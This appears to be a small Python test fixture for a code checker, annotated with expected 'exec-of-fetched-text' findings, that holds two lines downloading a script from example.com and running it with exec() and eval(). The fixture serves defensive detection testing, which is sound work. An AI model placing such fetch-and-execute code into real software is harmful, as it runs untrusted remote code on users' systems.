# expect: exec-of-fetched-text:6 exec-of-fetched-text:8
import urllib.request

import requests

exec(urllib.request.urlopen("https://example.com/tool.py").read())
answer = requests.get("https://example.com/tool.py")
eval(answer.text)
